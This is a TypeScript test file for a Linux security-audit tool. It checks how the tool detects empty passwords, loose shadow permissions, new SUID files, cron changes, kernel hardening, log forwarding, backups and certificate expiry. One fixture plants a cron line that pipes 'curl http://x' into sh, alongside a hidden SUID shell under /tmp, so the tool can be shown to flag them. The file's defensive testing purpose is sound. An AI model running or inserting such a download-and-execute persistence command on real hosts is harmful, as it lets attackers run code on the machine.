import { describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { CheckSettings, HostBaseline } from "../check.ts";
import { type FixtureCase, FixtureHost } from "../fixture-host.ts";
import { backupStatus } from "./backup-status.ts";
import { cronEntries } from "./cron-entries.ts";
import { emptyPasswords } from "./empty-passwords.ts";
import { failedUnits } from "./failed-units.ts";
import { filePermissions } from "./file-permissions.ts";
import { inactiveAccounts } from "./inactive-accounts.ts";
import { kernelParams } from "./kernel-params.ts";
import { logForwarding } from "./log-forwarding.ts";
import { suidFiles } from "./suid-files.ts";
import { tlsCertificates } from "./tls-certificates.ts";

const settings: CheckSettings = {
  ntpServers: [],
  ntpMaxOffsetMs: 500,
  allowedPorts: [22],
  expectedServices: [],
  diskMaxPercent: 90,
};

const PASSWD =
  "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n";
const SHADOW_DEBIAN =
  "root:$y$j9T$abc:19000:0:99999:7:::\ndaemon:*:19000::::::\nalice:$6$xyz:19000::::::\nbob:!:19000::::::\n";
// RHEL marks never-set passwords "!!"; an empty field is what an attacker leaves.
const SHADOW_EMPTY = "root:$6$abc:19000::::::\nalice::19000::::::\nbob:!!:19000::::::\n";
const LASTLOG =
  "Username         Port     From             Latest\nalice                                      **Never logged in**\n";

const cert = (days: number): string => {
  const dir = mkdtempSync(join(tmpdir(), "malachor-cert-"));
  try {
    execFileSync(
      "openssl",
      [
        "req",
        "-x509",
        "-newkey",
        "ed25519",
        "-nodes",
        "-subj",
        "/CN=clinic.test",
        "-days",
        String(days),
        "-keyout",
        join(dir, "k"),
        "-out",
        join(dir, "c"),
      ],
      { stdio: "ignore" },
    );
    return readFileSync(join(dir, "c"), "utf8");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
};
const now = Date.now();
const unixAgo = (h: number) => `@${Math.floor((now - h * 3_600_000) / 1000)}`;
const proc = (values: Record<string, string>) =>
  Object.fromEntries(
    Object.entries(values).map(([k, v]) => [`/proc/sys/${k.replaceAll(".", "/")}`, `${v}\n`]),
  );
const HARDENED = {
  "kernel.randomize_va_space": "2",
  "kernel.dmesg_restrict": "1",
  "fs.protected_symlinks": "1",
  "fs.protected_hardlinks": "1",
  "net.ipv4.conf.all.accept_redirects": "0",
  "net.ipv4.conf.all.send_redirects": "0",
  "net.ipv4.conf.all.accept_source_route": "0",
  "net.ipv4.conf.all.rp_filter": "2",
  "net.ipv4.tcp_syncookies": "1",
};
const STAT =
  "stat -c %n %a %U /etc/passwd /etc/group /etc/shadow /etc/gshadow /etc/ssh/sshd_config /etc/sudoers";
const FIND =
  "find /usr/bin /usr/sbin /usr/local/bin /usr/local/sbin /usr/libexec /usr/lib/openssh /usr/lib/dbus-1.0 /usr/lib/polkit-1 /bin /sbin /opt /run/wrappers -maxdepth 4 -xdev -type f ( -perm -4000 -o -perm -2000 )";
const TIMERS = "systemctl list-timers --all --no-legend --no-pager --plain";

const cases: FixtureCase[] = [
  [
    "empty password: none (Debian)",
    emptyPasswords,
    { files: { "/etc/shadow": SHADOW_DEBIAN } },
    "pass",
    /none empty/,
  ],
  [
    "empty password: alice (RHEL)",
    emptyPasswords,
    { files: { "/etc/shadow": SHADOW_EMPTY } },
    "fail",
    /alice/,
  ],
  ["empty password: shadow unreadable", emptyPasswords, {}, "error", /unreadable/],
  [
    "inactive: alice never logged in, bob locked",
    inactiveAccounts,
    {
      files: { "/etc/passwd": PASSWD, "/etc/shadow": SHADOW_DEBIAN },
      commands: { "lastlog -b 90": LASTLOG },
    },
    "fail",
    /alice/,
  ],
  [
    "inactive: without lastlog it cannot tell",
    inactiveAccounts,
    { files: { "/etc/passwd": PASSWD, "/etc/shadow": SHADOW_DEBIAN } },
    "warn",
    /lastlog unavailable/,
  ],
  [
    "permissions: Debian defaults",
    filePermissions,
    {
      commands: {
        [STAT]:
          "/etc/passwd 644 root\n/etc/group 644 root\n/etc/shadow 640 root\n/etc/gshadow 640 root\n/etc/ssh/sshd_config 644 root\n/etc/sudoers 440 root\n",
      },
    },
    "pass",
    /6 files safe/,
  ],
  [
    "permissions: RHEL 000 shadow, NixOS without sudoers (stat exits 1)",
    filePermissions,
    {
      commands: {
        [STAT]: {
          code: 1,
          stdout:
            "/etc/passwd 644 root\n/etc/group 644 root\n/etc/shadow 0 root\n/etc/gshadow 0 root\n/etc/ssh/sshd_config 600 root\n",
          stderr: "stat: cannot statx '/etc/sudoers'",
        },
      },
    },
    "pass",
    /5 files safe/,
  ],
  [
    "permissions: world-readable shadow",
    filePermissions,
    { commands: { [STAT]: "/etc/passwd 644 root\n/etc/shadow 644 root\n" } },
    "fail",
    /\/etc\/shadow 644/,
  ],
  [
    "failed units: none",
    failedUnits,
    { commands: { "systemctl list-units --state=failed --plain --no-legend --no-pager": "" } },
    "pass",
    /none failed/,
  ],
  [
    "failed units: one",
    failedUnits,
    {
      commands: {
        "systemctl list-units --state=failed --plain --no-legend --no-pager":
          "restic-backups-nas.service loaded failed failed restic backup\n",
      },
    },
    "fail",
    /restic-backups-nas.service/,
  ],
  ["failed units: not systemd", failedUnits, {}, "error", /not a systemd host/],
  ["kernel: hardened", kernelParams, { files: proc(HARDENED) }, "pass", /9 parameters/],
  [
    "kernel: redirects on",
    kernelParams,
    { files: proc({ ...HARDENED, "net.ipv4.conf.all.accept_redirects": "1" }) },
    "fail",
    /accept_redirects=1/,
  ],
  [
    "log forwarding: rsyslog @@ (Debian/RHEL)",
    logForwarding,
    { files: { "/etc/rsyslog.conf": "*.* @@logs.clinic.lan:514\n" } },
    "pass",
    /rsyslog forwards/,
  ],
  [
    "log forwarding: rsyslog.d omfwd",
    logForwarding,
    {
      dirs: { "/etc/rsyslog.d": ["50-fwd.conf"] },
      files: { "/etc/rsyslog.d/50-fwd.conf": 'action(type="omfwd" target="10.0.0.9" port="514")\n' },
    },
    "pass",
    /omfwd/,
  ],
  [
    "log forwarding: NixOS journal-upload",
    logForwarding,
    { commands: { "systemctl is-enabled systemd-journal-upload.service": "enabled\n" } },
    "pass",
    /journal-upload/,
  ],
  [
    "log forwarding: commented out",
    logForwarding,
    { files: { "/etc/rsyslog.conf": "#*.* @@logs:514\n" } },
    "fail",
    /no remote/,
  ],
  [
    "backup: NixOS restic timer ran 3 h ago",
    backupStatus,
    {
      commands: {
        [TIMERS]:
          "Sat 2026-12-05 04:00:00 UTC 20h left Fri 2026-12-04 04:00:00 UTC 3h ago restic-backups-nas.timer restic-backups-nas.service\n",
        "systemctl show --timestamp=unix -p Id -p LastTriggerUSec restic-backups-nas.timer": `Id=restic-backups-nas.timer\nLastTriggerUSec=${unixAgo(3)}\n`,
      },
    },
    "pass",
    /ran 3\.0 h ago/,
  ],
  [
    "backup: borg timer stale",
    backupStatus,
    {
      commands: {
        [TIMERS]:
          "n/a n/a Mon 2026-11-30 04:00:00 UTC 5 days ago borgbackup-job-main.timer borgbackup-job-main.service\n",
        "systemctl show --timestamp=unix -p Id -p LastTriggerUSec borgbackup-job-main.timer": `Id=borgbackup-job-main.timer\nLastTriggerUSec=${unixAgo(120)}\n`,
      },
    },
    "fail",
    /120 h ago/,
  ],
  [
    "backup: cron job only (Debian)",
    backupStatus,
    { files: { "/etc/crontab": "0 2 * * * root /usr/local/bin/backup.sh\n" } },
    "warn",
    /cannot be dated/,
  ],
  ["backup: none", backupStatus, { commands: { [TIMERS]: "" } }, "fail", /no backup job/],
  [
    "tls: Debian snakeoil valid a year",
    tlsCertificates,
    { files: { "/etc/ssl/certs/ssl-cert-snakeoil.pem": cert(365) } },
    "pass",
    /1 certificates valid/,
  ],
  [
    "tls: Let's Encrypt expiring in 10 days",
    tlsCertificates,
    {
      dirs: { "/etc/letsencrypt/live": ["README", "portal.clinic.test"] },
      files: { "/etc/letsencrypt/live/portal.clinic.test/cert.pem": cert(10) },
    },
    "warn",
    /expiring within 30 days/,
  ],
  ["tls: none found (NixOS)", tlsCertificates, {}, "pass", /no server certificates/],
];

describe("remote-capable linux checks against fixture output", () => {
  test.each(cases)("%s", async (_name, detect, fixture, status, actual) => {
    const r = await detect({ host: new FixtureHost(fixture), settings, timeoutMs: 5000 });
    expect({ status: r.status, actual: r.actual }).toEqual({ status, actual: expect.stringMatching(actual) });
  });

  test("SUID files and cron jobs: first scan records the baseline, a new one fails", async () => {
    const lists = new Map<string, string[]>();
    const baseline: HostBaseline = {
      get: (id) => lists.get(id),
      set: (id, items) => void lists.set(id, [...items]),
    };
    const host = (suid: string, cron: string) =>
      new FixtureHost({
        // NixOS: the wrappers under /run/wrappers; find exits 1 for the roots a host lacks.
        commands: { [FIND]: { code: 1, stdout: suid } },
        dirs: { "/var/spool/cron": ["root"] },
        files: { "/var/spool/cron/root": cron },
      });
    const ctx = (h: FixtureHost) => ({ host: h, settings, timeoutMs: 5000, baseline });
    const first = await suidFiles(ctx(host("/run/wrappers/bin/sudo\n/usr/bin/passwd\n", "")));
    expect(first.actual).toMatch(/2 items; baseline recorded/);
    const same = await suidFiles(ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n", "")));
    expect(same.status).toBe("pass");
    const added = await suidFiles(ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n/tmp/.x/sh\n", "")));
    expect({ status: added.status, added: added.details.added }).toEqual({
      status: "fail",
      added: ["/tmp/.x/sh"],
    });

    // RHEL keeps crontabs directly in /var/spool/cron.
    expect((await cronEntries(ctx(host("", "0 1 * * * /usr/bin/backup\n")))).actual).toMatch(
      /baseline recorded/,
    );
    const cron = await cronEntries(
      ctx(host("", "0 1 * * * /usr/bin/backup\n*/5 * * * * curl http://x | sh\n")),
    );
    expect(cron.status).toBe("fail");
    expect(cron.details.added).toEqual(["/var/spool/cron/root: */5 * * * * curl http://x | sh"]);
  });
});
